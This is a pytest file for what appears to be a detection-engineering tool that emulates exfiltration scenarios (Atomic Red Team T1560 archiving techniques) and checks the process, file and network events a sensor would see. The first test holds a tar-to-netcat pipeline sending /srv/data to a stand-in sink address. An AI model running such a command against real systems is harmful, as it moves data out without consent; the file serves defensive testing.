"""What a scenario looks like to a sensor, before any format: processes, files, connections."""

from __future__ import annotations

import msgspec
import pytest

from tidewaiter.emulate.netns import SINK_IP
from tidewaiter.emulate.plan import Connect, Exec, FileCreate, Script, Send, plan
from tidewaiter.emulate.scenario import Step, get


def test_a_shell_step_launches_its_pipeline_with_the_sink_filled_in() -> None:
    trace = plan(get("upload-tcp-nc-pipe"), "linux")
    execs = [a.proc for a in trace.actions if isinstance(a, Exec)]
    shell, tar, nc = execs
    assert shell.argv == ("/bin/sh", "-c", f"tar -czf - /srv/data | nc {SINK_IP} 9000")
    assert (tar.argv, tar.exe, tar.parent) == (("tar", "-czf", "-", "/srv/data"), "/bin/tar", shell)
    assert nc.argv == ("nc", SINK_IP, "9000")
    [connect] = [a for a in trace.actions if isinstance(a, Connect)]
    [send] = [a for a in trace.actions if isinstance(a, Send)]
    assert connect.proc is nc
    assert (connect.dst_ip, connect.dst_port) == (SINK_IP, 9000)
    assert send.bytes == 262_500
    assert send.time > connect.time


def test_variables_are_expanded_per_platform_and_files_go_to_their_creator() -> None:
    linux = plan(get("atomic-t1560.001-tar"), "linux")
    macos = plan(get("atomic-t1560.001-tar"), "macos")
    [tar] = [a.proc for a in linux.actions if isinstance(a, Exec) and a.proc.name == "tar"]
    assert tar.argv == ("tar", "-cvzf", "/root/data.tar.gz", "/root/atomic")
    [created] = [a for a in macos.actions if isinstance(a, FileCreate)]
    assert created.path == "/Users/atomic/data.tar.gz"
    assert created.proc.name == "tar"
    assert linux.stage.container_id is not None
    assert macos.stage.container_id is None


def test_spawns_stand_in_for_what_a_shell_would_resolve() -> None:
    trace = plan(get("atomic-t1560.001-zip-gpg"), "linux")
    names = [a.proc.name for a in trace.actions if isinstance(a, Exec)]
    assert names[0] == "sh"
    assert {"zip", "gpg", "touch", "mkdir", "ls"} <= set(names)
    assert "cd" not in names
    assert "echo" not in names
    creators = {a.path: a.proc.name for a in trace.actions if isinstance(a, FileCreate)}
    assert creators == {"/tmp/T1560/T1560.zip": "zip", "/tmp/T1560/T1560.zip.gpg": "gpg"}


def test_windows_steps_run_through_powershell_and_cmd_with_expanded_variables() -> None:
    ads = plan(get("ads-windows-compress-archive"), "windows")
    scripts = [a for a in ads.actions if isinstance(a, Script)]
    assert scripts
    assert "Compress-Archive" in scripts[0].text
    docker = next(a.proc for a in ads.actions if isinstance(a, Exec) and a.proc.name == "docker")
    assert docker.exe.endswith(r"\docker.exe")
    assert "C:\\Archive:/data" in docker.argv
    [send] = [a for a in ads.actions if isinstance(a, Send)]
    assert send.proc.name == "com.docker.backend"  # the backend carries the container's traffic
    rar = plan(get("atomic-t1560.001-rar"), "windows")
    [child] = [a.proc for a in rar.actions if isinstance(a, Exec) and a.proc.name == "rar"]
    assert child.exe == r"C:\Program Files\WinRAR\Rar.exe"
    assert child.argv[1:4] == ("a", "-r", r"C:\Users\atomic\T1560.001-data.rar")


def test_the_same_scenario_always_plans_the_same() -> None:
    one, two = plan(get("ads-linux-tar"), "linux"), plan(get("ads-linux-tar"), "linux")
    assert one.actions == two.actions


def test_a_platform_the_scenario_does_not_run_on_is_refused() -> None:
    with pytest.raises(ValueError, match="does not run on windows"):
        plan(get("ads-linux-tar"), "windows")


def test_what_a_format_must_express() -> None:
    ads = plan(get("ads-windows-compress-archive"), "windows")
    assert ads.needs() == [
        frozenset({"exec", "script"}),  # PowerShell: its launch or its script block
        frozenset({"exec"}),  # PowerShell starting docker.exe
        frozenset({"network"}),  # the backend's traffic: only a network event shows it
    ]
    step = Step(run="Compress-Archive x y", shell="powershell")  # noqa: S604 - a field
    only_script = msgspec.structs.replace(get("atomic-t1560-powershell"), commands=(step,))
    assert plan(only_script, "windows").needs() == [frozenset({"exec", "script"})]
